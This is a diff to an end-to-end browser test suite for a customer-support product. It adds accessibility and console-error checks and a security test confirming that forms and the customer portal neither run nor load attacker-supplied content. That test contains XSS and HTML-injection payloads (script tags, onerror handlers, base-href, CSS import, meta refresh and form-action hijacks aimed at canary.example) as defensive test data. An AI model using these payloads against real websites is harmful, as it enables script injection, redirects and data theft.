@@ -2,11 +2,14 @@ import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openBox, sendBy } from '#contact/channels-email/test/post.ts';
 import { type Relay, startRelay } from '#contact/channels-email/test/relay.ts';
-import { listConversations, reply } from '#contact/conversations/contract.ts';
+import { createForm, FormDefinition, getForm, publishForm, saveForm } from '#contact/channels-form/contract.ts';
+import { listConversations, reply, startConversation } from '#contact/conversations/contract.ts';
+import { createCustomer } from '#contact/customers/contract.ts';
 import { addBrand } from '#contact/portal/contract.ts';
 import { publishNotice } from '#contact/privacy/contract.ts';
 import { openBrowser, openPage, picture, type WatchedPage } from './lib/browser.ts';
 import { type Journey, signInAt, startJourney } from './lib/journey.ts';
+import { axeFindings } from './lib/screens.ts';
 
 let journey: Journey;
 let browser: Browser;
@@ -72,6 +75,7 @@ describe('a form', () => {
     await pictures(desk, 'form-builder');
     await desk.getByRole('button', { name: 'Publish', exact: true }).click();
     await desk.getByText('published', { exact: true }).waitFor();
+    expect(desk.complaints).toEqual([]);
   });
 
   it('is filled in without script, asks what is needed only, and keeps what was typed', async () => {
@@ -96,6 +100,7 @@ describe('a form', () => {
     await desk.goto(at(`/desk/inbox/all/${conversations[0]?.id}`));
     await desk.getByRole('log', { name: 'Messages' }).getByText('Serial number: K-77').waitFor();
     await picture(desk, 'form-conversation');
+    expect([...customer.complaints, ...desk.complaints]).toEqual([]);
   });
 });
 
@@ -135,6 +140,66 @@ describe('the portal', () => {
     expect([...customer.complaints, ...desk.complaints]).toEqual([]);
   });
 
+  it('T-41, T-42: runs and loads nothing of what others wrote, in forms as in the portal', async () => {
+    const { owner } = journey;
+    const evil = '<img src=x onerror=pwned=1><script>pwned=1</script><base href=//canary.example>';
+    const styled = `${evil}<style>@import '//canary.example/c';body{display:none}</style><meta http-equiv=refresh
+      content="0;url=//canary.example"><form action=//canary.example style=position:fixed;inset:0><input name=a></form>
+      javascript:pwned=1 [x](javascript:pwned=1) https://a.example/"onmouseover="pwned=1`;
+    const address = 'evil@kaldor.example';
+    const addresses = [{ kind: 'email' as const, value: address }];
+    const { customerId } = await owner.call(createCustomer, { name: evil, addresses });
+    await owner.call(startConversation, { customerId, subject: evil, text: styled });
+    await owner.call(addBrand, { key: 'evil', name: evil });
+    const made = await owner.call(createForm, { title: evil, key: 'evil' });
+    const { definition } = await owner.call(getForm, { formId: made.formId });
+    const fields = definition.fields.map((field) => ({ ...field, label: evil, help: evil }));
+    const choice = { id: 'c', kind: 'choice', label: evil, options: [evil] };
+    const worse = { ...definition, intro: styled, thanks: styled, fields: [...fields, choice] };
+    const saved = await owner.call(saveForm, {
+      ...{ formId: made.formId, version: made.version, teamId: null, allowedOrigins: [] },
+      definition: FormDefinition.parse(worse),
+    });
+    await owner.call(publishForm, { formId: made.formId, version: saved.version });
+    const page = await openPage(browser);
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    const isSafe = async (what: string) => {
+      const state = await page.evaluate(() => ({
+        ran: 'pwned' in window,
+        hidden: getComputedStyle(document.body).display === 'none',
+        forms: [...document.forms].every((form) => new URL(form.action).origin === location.origin),
+        base: document.querySelectorAll('base, main script, main style, main meta').length,
+      }));
+      expect(state, what).toEqual({ ran: false, hidden: false, forms: true, base: 0 });
+      expect(asked.filter((url) => !url.startsWith(journey.heed.url))).toEqual([]);
+    };
+    await page.goto(at('/forms/evil'));
+    await isSafe('a form');
+    for (const input of await page.locator('input[type=text], textarea').all()) await input.fill(styled.slice(0, 190));
+    await page.locator('input[type=email]').fill(address);
+    await page.locator('input[type=radio]').check();
+    await page.getByRole('button', { name: 'Send' }).click();
+    await page.getByText('Your reference').waitFor();
+    await isSafe('its thanks');
+    const before = relay.taken.length;
+    await page.goto(at('/portal/evil'));
+    await page.getByLabel('Your e-mail address').first().fill(address);
+    await page.getByRole('button', { name: 'Mail me a link' }).click();
+    const [mail] = (await relay.until(before + 1)).slice(before);
+    await page.goto(/https?:\/\/\S+\/enter\/\S+/.exec(mail?.seen.text ?? '')?.[0] ?? '');
+    await page.getByRole('button', { name: 'Go in' }).click();
+    await page.locator('.rows li').nth(1).waitFor();
+    await isSafe('the list');
+    for (const at of [0, 1]) {
+      await page.locator('.rows li').nth(at).click();
+      await page.locator('.msg').first().waitFor();
+      await isSafe('a conversation');
+      await page.goBack();
+    }
+    expect(page.complaints).toEqual([]);
+  });
+
   it('is kept on the desk with its brands, as notices and consents are', async () => {
     await desk.goto(at('/desk/settings/portal'));
     await desk.getByText('Fennick & Rowe').first().waitFor();
@@ -145,6 +210,11 @@ describe('the portal', () => {
     await desk.goto(at('/desk/settings/forms'));
     await desk.getByText('filled in once').waitFor();
     await pictures(desk, 'forms-list');
+    expect(desk.complaints).toEqual([]);
+    for (const path of ['/forms/report-a-fault', '/portal/fennick']) {
+      await desk.goto(at(path));
+      expect(await axeFindings(desk, 'all'), path).toEqual([]);
+    }
     expect(desk.complaints).toEqual([]);
   });
 });
